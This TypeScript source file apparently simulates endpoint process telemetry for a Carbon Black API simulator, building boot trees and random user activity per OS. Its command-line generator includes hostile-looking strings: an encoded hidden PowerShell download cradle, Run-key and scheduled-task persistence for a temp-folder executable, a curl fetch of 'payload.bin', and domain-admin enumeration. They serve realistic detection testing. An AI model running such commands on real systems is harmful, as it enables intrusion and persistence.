import type { Prng } from './prng.js';
import type { OsKind, SimProcess, SimSensor } from './types.js';
import { baseName, findProgram } from './catalog.js';
import type { CatalogEntry } from './catalog.js';
import { guidOf } from './guid.js';
import { md5Upper } from './hashes.js';

type UserKind = 'system' | 'local' | 'network' | 'user';

/** [key, parent key, program file name, command line, user]; started in this order at boot. */
type BootSpec = readonly [string, string | null, string, string, UserKind];

const WINDOWS_BOOT: readonly BootSpec[] = [
  ['system', null, 'ntoskrnl.exe', '', 'system'],
  ['smss', 'system', 'smss.exe', '\\SystemRoot\\System32\\smss.exe', 'system'],
  ['csrss0', 'smss', 'csrss.exe', '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,12288,512 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=winsrv:ConServerDllInitialization,2 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16', 'system'],
  ['wininit', 'smss', 'wininit.exe', 'wininit.exe', 'system'],
  ['services', 'wininit', 'services.exe', 'C:\\Windows\\system32\\services.exe', 'system'],
  ['lsass', 'wininit', 'lsass.exe', 'C:\\Windows\\system32\\lsass.exe', 'system'],
  ['lsm', 'wininit', 'lsm.exe', 'C:\\Windows\\system32\\lsm.exe', 'system'],
  ['svc-dcom', 'services', 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch', 'system'],
  ['svc-rpc', 'services', 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k RPCSS', 'network'],
  ['svc-local', 'services', 'svchost.exe', 'C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted', 'local'],
  ['svc-netsvcs', 'services', 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs', 'system'],
  ['svc-netsvc', 'services', 'svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k NetworkService', 'network'],
  ['spoolsv', 'services', 'spoolsv.exe', 'C:\\Windows\\System32\\spoolsv.exe', 'system'],
  ['cb', 'services', 'cb.exe', 'C:\\Windows\\CarbonBlack\\cb.exe', 'system'],
  ['search', 'services', 'searchindexer.exe', 'C:\\Windows\\system32\\SearchIndexer.exe /Embedding', 'system'],
  ['wmiprvse', 'svc-dcom', 'wmiprvse.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'network'],
  ['csrss1', 'smss', 'csrss.exe', '%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows', 'system'],
  ['winlogon', 'smss', 'winlogon.exe', 'winlogon.exe', 'system'],
  ['userinit', 'winlogon', 'userinit.exe', 'C:\\Windows\\system32\\userinit.exe', 'user'],
  ['explorer', 'userinit', 'explorer.exe', 'C:\\Windows\\Explorer.EXE', 'user'],
  ['taskhost', 'services', 'taskhost.exe', 'taskhost.exe $(Arg0)', 'user'],
  ['dwm', 'svc-local', 'dwm.exe', '"C:\\Windows\\system32\\Dwm.exe"', 'user'],
];

const OSX_BOOT: readonly BootSpec[] = [
  ['launchd', null, 'launchd', '/sbin/launchd', 'system'],
  ['cbdaemon', 'launchd', 'cbdaemon', '/usr/sbin/cbdaemon', 'system'],
  ['loginwindow', 'launchd', 'loginwindow', '/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow console', 'user'],
  ['dock', 'launchd', 'dock', '/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock', 'user'],
  ['finder', 'launchd', 'finder', '/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder', 'user'],
  ['terminal', 'launchd', 'terminal', '/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', 'user'],
  ['login', 'terminal', 'login', 'login -pf', 'system'],
  ['bash', 'login', 'bash', '-bash', 'user'],
];

const LINUX_BOOT: readonly BootSpec[] = [
  ['systemd', null, 'systemd', '/usr/lib/systemd/systemd --switched-root --system --deserialize 21', 'system'],
  ['rsyslogd', 'systemd', 'rsyslogd', '/usr/sbin/rsyslogd -n', 'system'],
  ['crond', 'systemd', 'crond', '/usr/sbin/crond -n', 'system'],
  ['cbdaemon', 'systemd', 'cbdaemon', '/usr/sbin/cbdaemon', 'system'],
  ['sshd', 'systemd', 'sshd', '/usr/sbin/sshd -D', 'system'],
  ['httpd', 'systemd', 'httpd', '/usr/sbin/httpd -DFOREGROUND', 'system'],
  ['sshd-session', 'sshd', 'sshd', 'sshd: admin@pts/0', 'user'],
  ['bash', 'sshd-session', 'bash', '-bash', 'user'],
];

/** Activity rules: a running parent with this name may start one of these children. */
const ACTIVITY: Record<OsKind, Record<string, readonly (readonly [string, number])[]>> = {
  windows: {
    'explorer.exe': [['chrome.exe', 5], ['outlook.exe', 2], ['winword.exe', 2], ['excel.exe', 2], ['cmd.exe', 4], ['powershell.exe', 2], ['notepad.exe', 2], ['taskmgr.exe', 1], ['iexplore.exe', 1]],
    'cmd.exe': [['net.exe', 4], ['ipconfig.exe', 3], ['whoami.exe', 2], ['ping.exe', 3], ['tasklist.exe', 2], ['reg.exe', 1], ['sc.exe', 1], ['schtasks.exe', 1]],
    'powershell.exe': [['whoami.exe', 1], ['ipconfig.exe', 1], ['net.exe', 1]],
    'net.exe': [['net1.exe', 1]],
    'services.exe': [['svchost.exe', 2], ['msiexec.exe', 1], ['vssvc.exe', 1]],
    'svchost.exe': [['wmiprvse.exe', 2], ['taskeng.exe', 2], ['wuauclt.exe', 2], ['consent.exe', 1], ['rundll32.exe', 1]],
    'taskeng.exe': [['cmd.exe', 1], ['wscript.exe', 1]],
    'chrome.exe': [['chrome.exe', 3]],
    'winword.exe': [['cmd.exe', 1]],
    'outlook.exe': [['invoice_0218.exe', 1]],
    'invoice_0218.exe': [['svcupd.exe', 1], ['cmd.exe', 1]],
  },
  osx: {
    launchd: [['safari', 3], ['terminal', 1], ['curl', 1]],
    bash: [['ls', 4], ['ps', 2], ['curl', 2]],
  },
  linux: {
    bash: [['ls', 4], ['ps', 2], ['curl', 2], ['python2.7', 1]],
    crond: [['bash', 2]],
    httpd: [['httpd', 2]],
  },
};

/** Programs that keep running after they start (sometimes); the rest end within seconds. */
const LONG_RUNNING = new Set(['chrome.exe', 'outlook.exe', 'winword.exe', 'excel.exe', 'cmd.exe', 'powershell.exe', 'notepad.exe', 'taskmgr.exe', 'iexplore.exe', 'svchost.exe', 'safari', 'terminal', 'httpd', 'svcupd.exe']);

/** Long-lived busy processes get more than one segment. */
const BUSY = new Set(['explorer.exe', 'svchost.exe', 'cb.exe', 'chrome.exe', 'outlook.exe', 'lsass.exe', 'services.exe', 'searchindexer.exe', 'httpd', 'sshd', 'launchd', 'systemd']);

function commandLine(rng: Prng, name: string, path: string, sensor: SimSensor): string {
  const winPath = path.replace(/^c:\\/, 'C:\\');
  switch (name) {
    case 'net.exe':
      return rng.pick(['net  user', 'net  localgroup administrators', 'net  view', `net  use \\\\SRV-FS01\\share`, 'net  group "Domain Admins" /domain']);
    case 'net1.exe':
      return rng.pick(['C:\\Windows\\system32\\net1  user', 'C:\\Windows\\system32\\net1  localgroup administrators']);
    case 'ipconfig.exe':
      return rng.pick(['ipconfig  /all', 'ipconfig', 'ipconfig  /flushdns']);
    case 'whoami.exe':
      return rng.pick(['whoami', 'whoami  /all', 'whoami  /priv']);
    case 'ping.exe':
      return `ping  -n ${rng.int(1, 4)} 10.10.0.${rng.int(2, 40)}`;
    case 'tasklist.exe':
      return rng.pick(['tasklist', 'tasklist  /svc', 'tasklist  /v']);
    case 'reg.exe':
      return rng.pick(['reg  query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', 'reg  add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d c:\\windows\\temp\\svcupd.exe']);
    case 'sc.exe':
      return rng.pick(['sc  query', 'sc  qc wuauserv']);
    case 'schtasks.exe':
      return rng.pick(['schtasks  /query', 'schtasks  /create /tn updater /tr c:\\windows\\temp\\svcupd.exe /sc onlogon']);
    case 'cmd.exe':
      return rng.pick(['"C:\\Windows\\system32\\cmd.exe" ', 'cmd.exe /c "whoami && ipconfig /all"', 'C:\\Windows\\system32\\cmd.exe /c dir c:\\users']);
    case 'powershell.exe':
      return rng.pick([
        '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" ',
        'powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "Get-Process | Sort-Object CPU"',
        'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      ]);
    case 'chrome.exe':
      return rng.chance(0.3)
        ? `"${winPath}" `
        : `"${winPath}" --type=renderer --field-trial-handle=1516,${rng.int(1000, 99999)} --lang=en-US --renderer-client-id=${rng.int(5, 40)} --mojo-platform-channel-handle=${rng.int(2000, 4000)} /prefetch:1`;
    case 'svchost.exe':
      return `C:\\Windows\\system32\\svchost.exe -k ${rng.pick(['netsvcs', 'LocalSystemNetworkRestricted', 'UnistackSvcGroup', 'wsappx'])}`;
    case 'wmiprvse.exe':
      return 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding';
    case 'taskeng.exe':
      return `taskeng.exe {${rng.hex(8).toUpperCase()}-${rng.hex(4).toUpperCase()}-${rng.hex(4).toUpperCase()}-${rng.hex(4).toUpperCase()}-${rng.hex(12).toUpperCase()}} S-1-5-18:NT AUTHORITY\\System:Service:`;
    case 'wuauclt.exe':
      return '"C:\\Windows\\system32\\wuauclt.exe" /RunHandlerComServer';
    case 'rundll32.exe':
      return 'C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\inetcpl.cpl,ClearMyTracksByProcess Flags:65800 WinX:0 WinY:0 IEFrame:0000000000000000';
    case 'msiexec.exe':
      return 'C:\\Windows\\system32\\msiexec.exe /V';
    case 'wscript.exe':
      return `"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\${sensor.userName}\\AppData\\Local\\Temp\\update.vbs"`;
    case 'winword.exe':
      return `"${winPath}" /n "C:\\Users\\${sensor.userName}\\Downloads\\Invoice_0218.docm" /o ""`;
    case 'ls':
      return rng.pick(['ls -la', 'ls /tmp', 'ls -l /var/log']);
    case 'ps':
      return rng.pick(['ps aux', 'ps -ef']);
    case 'curl':
      return rng.pick(['curl -s https://example.com/install.sh', 'curl -O http://10.20.0.5/payload.bin', 'curl -I https://www.google.com']);
    case 'python2.7':
      return '/usr/bin/python /opt/scripts/rotate_logs.py';
    case 'bash':
      return rng.pick(['/bin/bash /etc/cron.daily/logrotate', '-bash']);
    case 'httpd':
      return '/usr/sbin/httpd -DFOREGROUND';
    case 'safari':
      return '/Applications/Safari.app/Contents/MacOS/Safari';
    default:
      return path.includes('\\') ? `"${winPath}" ` : path;
  }
}

function userOf(kind: UserKind, sensor: SimSensor): { username: string; sid: string } {
  if (sensor.osKind !== 'windows') {
    return kind === 'user' ? { username: sensor.userName, sid: '' } : { username: 'root', sid: '' };
  }
  switch (kind) {
    case 'system':
      return { username: 'NT AUTHORITY\\SYSTEM', sid: 's-1-5-18' };
    case 'local':
      return { username: 'NT AUTHORITY\\LOCAL SERVICE', sid: 's-1-5-19' };
    case 'network':
      return { username: 'NT AUTHORITY\\NETWORK SERVICE', sid: 's-1-5-20' };
    default:
      return { username: `${sensor.domain}\\${sensor.userName}`, sid: `${sensor.doc.computer_sid.toLowerCase()}-${1100 + (sensor.doc.id % 50)}` };
  }
}

const MD5_CACHE = new Map<CatalogEntry, string>();

/** The simulated image MD5 of a program (the same on every host, as real binaries are). */
export function programMd5(entry: CatalogEntry): string {
  let md5 = MD5_CACHE.get(entry);
  if (md5 === undefined) {
    md5 = entry.md5 ?? md5Upper(`cbapi-simulator|${entry.path}|${entry.version}`);
    MD5_CACHE.set(entry, md5);
  }
  return md5;
}

/**
 * Generates about `count` processes for a sensor: the boot tree of its OS (System → smss → winlogon →
 * userinit → explorer ..., services → svchost ...), then activity (explorer → cmd → net.exe ...) spread
 * between boot and `nowMs`, each child starting after its parent. Returned sorted by start time.
 */
export function generateProcesses(rng: Prng, sensor: SimSensor, count: number, nowMs: number): SimProcess[] {
  const os = sensor.osKind;
  const sensorId = sensor.doc.id;
  const processes: SimProcess[] = [];
  const usedPids = new Set<number>();
  let nextPid = os === 'windows' ? 4 : 1;
  const allocPid = (): number => {
    let pid = nextPid;
    while (usedPids.has(pid)) pid += os === 'windows' ? 4 : 1;
    usedPids.add(pid);
    nextPid = pid + (os === 'windows' ? 4 * rng.int(1, 40) : rng.int(1, 60));
    if (nextPid > 65_000) nextPid = os === 'windows' ? 8 : 2;
    return pid;
  };
  const make = (parent: SimProcess | undefined, programName: string, cmdline: string, user: UserKind, startMs: number, endMs: number | null): SimProcess => {
    const entry = findProgram(os, programName);
    const pid = allocPid();
    const { username, sid } = userOf(user, sensor);
    const last = endMs ?? Math.max(startMs, nowMs - rng.int(1_000, 600_000));
    const name = baseName(entry.path);
    const segmentCount = BUSY.has(name) && last - startMs > 3_600_000 ? rng.int(2, 4) : 1;
    const segments: number[] = [];
    for (let i = 1; i <= segmentCount; i++) segments.push(Math.floor(startMs + ((last - startMs) * i) / segmentCount) + i);
    const process: SimProcess = {
      guid: guidOf(sensorId, pid, startMs),
      sensorId,
      pid,
      parentPid: parent?.pid ?? 0,
      parentGuid: parent?.guid ?? guidOf(sensorId, 0, 0),
      name,
      path: entry.path,
      cmdline,
      username,
      sid,
      md5: programMd5(entry),
      startMs,
      endMs,
      lastUpdateMs: last,
      segments,
      childGuids: [],
      eventSeed: `${String(rng.seed)}/${pid}/${startMs}`,
      suppressed: false,
    };
    parent?.childGuids.push(process.guid);
    processes.push(process);
    return process;
  };

  const boot = os === 'windows' ? WINDOWS_BOOT : os === 'osx' ? OSX_BOOT : LINUX_BOOT;
  const byKey = new Map<string, SimProcess>();
  let t = sensor.bootMs;
  for (const [key, parentKey, program, cmd, user] of boot) {
    const parent = parentKey ? byKey.get(parentKey) : undefined;
    t += key === 'userinit' || key === 'loginwindow' || key === 'sshd-session' ? rng.int(30_000, 300_000) : rng.int(50, 2_000);
    const ends = key === 'userinit' ? t + rng.int(2_000, 8_000) : null;
    byKey.set(key, make(parent, program, cmd, user, t, ends));
  }

  const activityCount = Math.max(0, count - processes.length);
  const firstActivity = t + 60_000;
  const span = Math.max(1, nowMs - 5_000 - firstActivity);
  const times: number[] = [];
  for (let i = 0; i < activityCount; i++) times.push(firstActivity + Math.floor(rng.next() * span));
  times.sort((a, b) => a - b);
  const rules = ACTIVITY[os];
  for (const at of times) {
    const candidates = processes.filter((p) => rules[p.name] !== undefined && p.startMs < at - 1_000 && (p.endMs === null || p.endMs > at));
    if (candidates.length === 0) continue;
    const parent = rng.pick(candidates);
    const choices = rules[parent.name];
    if (!choices) continue;
    const child = rng.weighted(choices);
    const entry = findProgram(os, child);
    const user: UserKind = parent.username.startsWith('NT AUTHORITY\\') || parent.username === 'root' ? (parent.sid === 's-1-5-20' ? 'network' : 'system') : 'user';
    const longRunning = LONG_RUNNING.has(child) && rng.chance(0.5);
    const endsAt = longRunning ? null : Math.min(nowMs - 1, at + rng.int(150, 45_000));
    const endMs = parent.endMs !== null && endsAt === null ? Math.min(nowMs - 1, at + rng.int(60_000, 3_600_000)) : endsAt;
    make(parent, child, commandLine(rng, child, entry.path, sensor), user, at, endMs);
  }
  processes.sort((a, b) => a.startMs - b.startMs || a.pid - b.pid);
  return processes;
}
